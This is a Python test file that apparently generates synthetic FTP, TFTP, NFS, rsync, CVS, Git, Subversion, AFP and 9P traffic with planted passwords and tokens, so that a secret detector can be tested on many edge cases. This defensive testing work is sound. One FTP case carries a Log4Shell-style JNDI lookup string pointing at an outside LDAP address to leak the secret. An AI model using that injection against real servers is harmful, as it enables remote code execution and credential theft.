"""Secrets in what moves files: FTP, TFTP, NFS, rsync, CVS, Git, ...

SPDX-License-Identifier: GPL-2.0-or-later
"""
import struct

from planted import C, S, case

READY = S(b"220 ready\r\n")


@case("ftp")
def ftp(p):
    def line(place, *turns, **more):
        p.tcp("ftp", 21, place, *turns, **more)
    line("password", READY, C(b"USER bob\r\n"), S(b"331 which password?\r\n"), C(b"PASS {S}\r\n"))
    line("password in the first packet", b"PASS {S}\r\n")
    line("password, lower case", b"pass {S}\r\n")
    line("password, mixed case", b"pAsS {S}\r\n")
    line("password after a tab", b"PASS\t{S}\r\n")
    line("password after two blanks", b"PASS  {S}\r\n")
    line("blank before the command", b" PASS {S}\r\n")
    line("password in two segments", C(b"PASS {S1}", b"{S2}\r\n"))
    line("password in the second segment", C(b"PASS ", b"{S}\r\n"))
    line("command in two segments", C(b"PA", b"SS {S}\r\n"))
    line("line without an end", b"PASS {S}")
    line("rest of a line from before the capture", b"{S}\r\n", begun=True)
    line("second half from before the capture", b"SS {S}\r\n", begun=True)
    line("password, begun before the capture", b"PASS {S}\r\n", begun=True)
    line("pipelined", b"USER bob\r\nPASS {S}\r\n")
    line("pipelined after others", b"NOOP\r\nSYST\r\nUSER bob\r\nPASS {S}\r\nTYPE I\r\n")
    line("sent twice", C(b"PASS {S}\r\n", again=True))
    line("line end of Unix", b"USER bob\nPASS {S}\n")
    line("password of words", b"PASS correct horse {S}\r\n")
    line("base64", b"PASS {B}\r\n")
    line("percent", b"PASS {P}\r\n")
    line("hex", b"PASS {H}\r\n")
    line("account", b"ACCT {S}\r\n")
    line("SITE PSWD", b"SITE PSWD old {S}\r\n")
    line("SITE PSWD, old password", b"SITE PSWD {S} new\r\n")
    line("SITE PASS", b"SITE PASS {S}\r\n")
    line("SITE GPASS", b"SITE GPASS {S}\r\n")
    line("SITE ADDUSER", b"SITE ADDUSER bob {S}\r\n")
    line("SITE CHPASS", b"SITE CHPASS bob {S}\r\n")
    line("AUTH and ADAT", C(b"AUTH GSSAPI\r\n"), S(b"334 go on\r\n"), C(b"ADAT {B}\r\n"))
    line("one-time password in the answer", S(b"331 Response to otp-md5 {S} is required\r\n"))
    line("answer repeats the password", S(b"530 Login incorrect: PASS {S}\r\n"))
    line("banner with a password", S(b"220 use guest/{S} to log in\r\n"))
    line("answer of several lines", S(b"331-hello\r\n331-password is {S}\r\n331 go on\r\n"))
    line("injection as user", C(b"USER ${jndi:ldap://192.0.2.1/{S}}\r\n"), S(b"331 which password?\r\n"),
         C(b"PASS x\r\n"), S(b"530 no\r\n"))
    line("user and password as user", b"USER bob:{S}@host\r\n")
    line("password as user name after a failure", C(b"PASS x\r\n"), S(b"530 no\r\n"), C(b"{S}\r\n"))
    line("control characters before it", b"\xff\xf4\xff\xf2PASS {S}\r\n")


@case("files")
def tftp(p):
    p.udp("tftp", 69, "file name", b"\0\1backup?password={S}\0octet\0")
    p.udp("tftp", 69, "token as a file name", b"\0\1/configs/{S}.cfg\0octet\0")
    p.udp("tftp", 69, "percent-encoded", b"\0\1cfg?p%61ssword={P}\0octet\0")
    p.udp("tftp", 69, "write", b"\0\2/tokens/{S}\0netascii\0")
    p.udp("tftp", 69, "option", b"\0\1a\0octet\0password\0{S}\0")
    p.udp("tftp", 69, "error", C(b"\0\1a\0octet\0"), S(b"\0\5\0\2password {S} is wrong\0"))


def opaque(text):
    return struct.pack("!I", len(text)) + text + bytes(-len(text) % 4)


def call(program, version, procedure, body, credentials=None):
    flavor = credentials if credentials is not None else struct.pack("!II", 0, 0)
    return struct.pack("!IIIIII", 0x1234, 0, 2, program, version, procedure) + flavor + \
        struct.pack("!II", 0, 0) + body


@case("files")
def sun_rpc(p):
    handle = opaque(bytes(32))
    p.udp("nfs", 2049, "name that is looked up", lambda s: call(
        100003, 3, 3, handle + opaque(b"token-" + s)))
    p.udp("nfs", 2049, "symbolic link", lambda s: call(
        100003, 3, 10, handle + opaque(b"link") + bytes(24) + opaque(b"http://bob:" + s + b"@h/")))
    p.udp("mount", 635, "path that is mounted", lambda s: call(100005, 3, 1, opaque(b"/export/" + s)))
    p.udp("rpc", 2049, "machine name of AUTH_UNIX", lambda s: call(
        100003, 3, 0, b"", struct.pack("!II", 1, 20 + len(opaque(s))) + struct.pack("!I", 0) + opaque(s) +
        struct.pack("!III", 0, 0, 0) + bytes(4)))
    p.udp("yppasswd", 800, "new password", lambda s: call(
        100009, 1, 1, opaque(s) + opaque(b"bob") + opaque(s) + bytes(8) + opaque(b"Bob") + opaque(b"/") +
        opaque(b"/bin/sh")))
    p.udp("ypserv", 801, "map with passwords", lambda s: call(
        100004, 2, 3, opaque(b"dom") + opaque(b"passwd.byname") + opaque(s)))


@case("files")
def pcnfsd(p):
    p.udp("pcnfsd", 802, "password, hidden by an exclusive or", lambda s: call(
        150001, 2, 13, opaque(b"host") + opaque(bytes(c ^ 0x5b for c in b"bob")) +
        opaque(bytes(c ^ 0x5b for c in s)) + opaque(b"")))
    p.udp("pcnfsd", 802, "comment", lambda s: call(
        150001, 2, 13, opaque(b"host") + opaque(b"bob") + opaque(s) + opaque(b"password " + s)))


@case("files")
def rsync(p):
    hello = [S(b"@RSYNCD: 31.0\n"), C(b"@RSYNCD: 31.0\n"), C(b"backup\n")]
    p.tcp("rsync", 873, "answer to the challenge", *hello, S(b"@RSYNCD: AUTHREQD {S}\n"), C(b"bob x\n"))
    p.tcp("rsync", 873, "response", *hello, S(b"@RSYNCD: AUTHREQD abc\n"), C(b"bob {S}\n"))
    p.tcp("rsync", 873, "response in the first packet", b"bob {S}\n")
    p.tcp("rsync", 873, "response, begun before the capture", b"bob {S}\n", begun=True)
    p.tcp("rsync", 873, "module", S(b"@RSYNCD: 31.0\n"), C(b"@RSYNCD: 31.0\n"), C(b"{S}\n"))
    p.tcp("rsync", 873, "message of the day", S(b"@RSYNCD: 31.0\n"), C(b"@RSYNCD: 31.0\n"),
          S(b"password is {S}\n"))
    p.tcp("rsync", 873, "error", S(b"@ERROR: auth failed for bob:{S}\n"))


@case("files")
def cvs(p):
    p.tcp("cvspserver", 2401, "scrambled password",
          b"BEGIN AUTH REQUEST\n/cvsroot\nbob\nA{S}\nEND AUTH REQUEST\n")
    p.tcp("cvspserver", 2401, "password in a line of its own", C(
        b"BEGIN AUTH REQUEST\n", b"/cvsroot\n", b"bob\n", b"A{S}\n", b"END AUTH REQUEST\n"))
    p.tcp("cvspserver", 2401, "verification", b"BEGIN VERIFICATION REQUEST\n/cvsroot\nbob\n{S}\n"
          b"END VERIFICATION REQUEST\n")
    p.tcp("cvspserver", 2401, "password first", b"A{S}\nEND AUTH REQUEST\n")
    p.tcp("cvspserver", 2401, "root", b"Root :pserver:bob:{S}@host:/cvs\n")


@case("files")
def git(p):
    def line(text):
        return b"%04x" % (len(text) + 4) + text
    p.tcp("git", 9418, "repository", lambda s: line(
        b"git-upload-pack /" + s + b".git\0host=bob:" + s + b"@h\0"))
    p.tcp("git", 9418, "host", lambda s: line(b"git-upload-pack /a.git\0host=bob:" + s + b"@h\0"))
    p.tcp("git", 9418, "error", S(lambda s: line(b"ERR access denied for token " + s)))


@case("files")
def bazaar(p):
    def message(arguments):
        return b"bzr message 3 (bzr 1.6)\n" + struct.pack("!I", 2) + b"de" + b"s" + struct.pack(
            "!I", len(arguments)) + arguments + b"e"
    p.tcp("bzr", 4155, "method and arguments", lambda s: message(b"l5:login%d:%se" % (len(s), s)))
    p.tcp("bzr", 4155, "method", lambda s: message(b"l%d:%se" % (len(s), s)))


@case("files")
def subversion(p):
    """Wireshark has no dissector for svn://."""
    hello = S(b"( success ( 2 2 ( PLAIN ) ( edit-pipeline ) ) ) ")
    p.tcp("tcp", 3690, "URL", hello, C(b"( 2 ( edit-pipeline ) 29:svn://bob:{S}@h/r ) "))
    p.tcp("tcp", 3690, "PLAIN", hello, C(b"( PLAIN ( 28:{B} ) ) "))
    p.tcp("tcp", 3690, "CRAM-MD5", hello, C(b"37:bob {S}{S} "))


@case("files")
def perforce(p):
    """Wireshark has no dissector for it."""
    p.tcp("tcp", 1666, "ticket", b"\x20\x20\0\0\0user-login\0func\0\x10\0\0\0{S}\0")


@case("files")
def afp(p):
    body = b"\x12\0\x06AFP3.2\x0fCleartxt Passwrd\x03bob\0{S}"
    p.tcp("afp", 548, "cleartext password", lambda s: (lambda b: struct.pack(
        "!BBHIII", 0, 2, 1, 0, len(b), 0) + b)(b"\x12\x06AFP2.2\x10Cleartxt Passwrd\x03bob" + s[:8] + s[8:]))
    p.tcp("dsi", 548, "another version", lambda s: struct.pack(
        "!BBHIII", 0, 2, 1, 0, len(body) + 13, 0) + body.replace(b"{S}", s))


@case("files")
def nine_p(p):
    def message(kind, body):
        return struct.pack("<IBH", 7 + len(body), kind, 1) + body

    def string(text):
        return struct.pack("<H", len(text)) + text
    p.tcp("9p", 564, "name to attach", lambda s: message(104, struct.pack("<II", 1, 2**32 - 1) + string(
        b"bob") + string(s)))
    p.tcp("9p", 564, "path", lambda s: message(110, struct.pack("<IIH", 1, 2, 1) + string(s)))
    p.tcp("9p", 564, "error", S(lambda s: message(107, string(b"bad password " + s))))
